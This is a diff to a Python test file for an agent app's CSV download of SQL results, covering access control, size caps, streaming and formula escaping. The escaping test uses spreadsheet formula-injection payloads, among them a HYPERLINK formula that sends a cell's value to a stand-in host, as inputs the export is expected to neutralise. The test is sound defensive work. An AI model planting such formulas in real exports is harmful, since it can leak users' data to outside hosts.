@@ -18,7 +18,7 @@ from runs.demo.charts import CHART_PROMPT, CITY_REVENUE_SQL
 from runs.demo.server import stop_demo_server
 from runs.engine.testing import Match, Reply, Rule, Script, ToolCallSpec
 from runs.models import Event, Task
-from runs.presets.tools.sql import sql_export, sql_query
+from runs.presets.tools.sql import sql_query
 from runs.service import runtime
 from tests.live_support import (
     body,
@@ -27,6 +27,7 @@ from tests.live_support import (
     make_notebook,
     make_user,
 )
+from tests.sql_support import query_rows
 
 BAR = {
     "mark": "bar",
@@ -158,7 +159,7 @@ async def test_an_invalid_spec_is_an_error_the_model_sees_and_corrects(
     ]
     assert [c["tool_output"]["is_error"] for c in charts] == [True, False]
     assert len(charts[1]["tool_output"]["raw_output"]["spec"]["data"]["values"]) == len(
-        sql_export("SELECT id FROM cities")[1]
+        query_rows("SELECT id FROM cities")[1]
     )
 
 
@@ -182,8 +183,8 @@ async def test_csv_download_has_every_row_of_the_query_and_only_for_the_owner(
     assert response.status_code == 200 and response["Content-Type"].startswith(
         "text/csv"
     )
-    rows = list(csv.reader(io.StringIO(response.content.decode())))
-    columns, expected = await sync_to_async(sql_export)(query)
+    rows = await _csv_rows(response)
+    columns, expected = await sync_to_async(query_rows)(query)
     assert rows[0] == columns
     assert rows[1:] == [[str(v) for v in row] for row in expected]
     assert len(rows) - 1 == result["tool_output"]["raw_output"]["total_rows"] > 200
@@ -197,3 +198,100 @@ async def test_csv_download_has_every_row_of_the_query_and_only_for_the_owner(
     stranger = AsyncClient()
     await sync_to_async(stranger.force_login)(other)
     assert (await stranger.get(url)).status_code == 404
+
+
+async def _csv_rows(response: Any) -> list[list[str]]:
+    """The rows of a streamed CSV download."""
+    assert response.streaming  # never built whole in memory
+    text = "".join([c.decode() async for c in response.streaming_content])
+    return list(csv.reader(io.StringIO(text)))
+
+
+async def _download_of(scripted_server: Any, query: str) -> tuple[Any, str]:
+    """A client logged in as the owner of a notebook whose model ran `query`, and its CSV URL."""
+    rules = [call_rule(0, "sql_query", "q1", sql=query), Rule(reply=Reply(text="Ok."))]
+    user, task = await run_turn(scripted_server, rules, "Query")
+    result = [e for e in await _events(task) if e["type"] == "tool_call_result"][0]
+    client = AsyncClient()
+    await sync_to_async(client.force_login)(user)
+    return client, f"/api/tasks/{task.pk}/result.csv?step={result['step_id']}&call=q1"
+
+
+FORMULAS = (
+    "SELECT '=HYPERLINK(\"http://evil.example/?\"&A1)' AS \"=cmd\", '+1+1' AS plus,"
+    " '-2+3' AS minus, '@SUM(A1)' AS at, char(9) || '=1' AS tab, char(13) || '=1' AS cr,"
+    " -5 AS number, '-5' AS number_text, '1.5e3' AS float_text, 'a=b' AS inner_equals,"
+    " ' =1' AS space"
+)
+
+
+async def test_csv_download_neutralises_formula_cells_and_keeps_numbers(
+    scripted_server: Any,
+) -> None:
+    client, url = await _download_of(scripted_server, FORMULAS)
+    rows = await _csv_rows(await client.get(url))
+    assert rows[0][0] == "'=cmd"
+    assert rows[1] == [
+        '\'=HYPERLINK("http://evil.example/?"&A1)',
+        "'+1+1",
+        "'-2+3",
+        "'@SUM(A1)",
+        "'\t=1",
+        "'\r=1",
+        "-5",
+        "-5",
+        "1.5e3",
+        "a=b",
+        " =1",
+    ]
+
+
+async def test_csv_download_stops_at_its_caps_with_a_last_line_saying_so(
+    scripted_server: Any,
+) -> None:
+    client, url = await _download_of(
+        scripted_server, "SELECT id, revenue FROM sales ORDER BY id"
+    )
+    with override_settings(AGENTUI_CSV_EXPORT_MAX_ROWS=100):
+        response = await client.get(url)
+        assert response["X-Export-Limits"].startswith("rows=100;")
+        rows = await _csv_rows(response)
+    assert rows[0] == ["id", "revenue"] and [r[0] for r in rows[1:101]] == [
+        str(i) for i in range(1, 101)
+    ]
+    assert len(rows) == 102 and rows[-1][0].startswith("# cut after 100 rows: more")
+    assert "AGENTUI_CSV_EXPORT_MAX_ROWS" in rows[-1][0]
+
+    with override_settings(AGENTUI_CSV_EXPORT_MAX_BYTES=1000):
+        response = await client.get(url)
+        text = "".join([c.decode() async for c in response.streaming_content])
+    *kept, (last,) = list(csv.reader(io.StringIO(text)))
+    assert len(text.encode()) - len(text.splitlines()[-1]) <= 1000 + 2
+    assert last.startswith(f"# cut after {len(kept) - 1} rows: the download stops")
+    assert "AGENTUI_CSV_EXPORT_MAX_BYTES" in last
+
+    with override_settings(AGENTUI_CSV_EXPORT_MAX_ROWS=10**9):
+        rows = await _csv_rows(await client.get(url))
+    assert len(rows) == 1 + 1920 and not rows[-1][0].startswith("#")  # not cut
+
+
+def test_a_large_export_streams_in_bounded_memory() -> None:
+    """3.7 million rows of a cross join: the writer holds one batch at a time."""
+    import tracemalloc
+
+    from runs.presets.tools.sql import sql_export
+    from runs.traces.results import CsvWriter
+
+    query = "SELECT a.id, a.sold_on, b.revenue FROM sales a, sales b"
+    writer = CsvWriter(sql_export(query), max_rows=100_000, max_bytes=10**9)
+    tracemalloc.start()
+    try:
+        written = 0
+        while (chunk := writer.next_chunk()) is not None:
+            written += len(chunk)
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    assert writer.rows_written == 100_000 and writer.cut is not None
+    assert written > 2_000_000
+    assert peak < 1_000_000, f"peak {peak:,} bytes for {written:,} bytes of CSV"
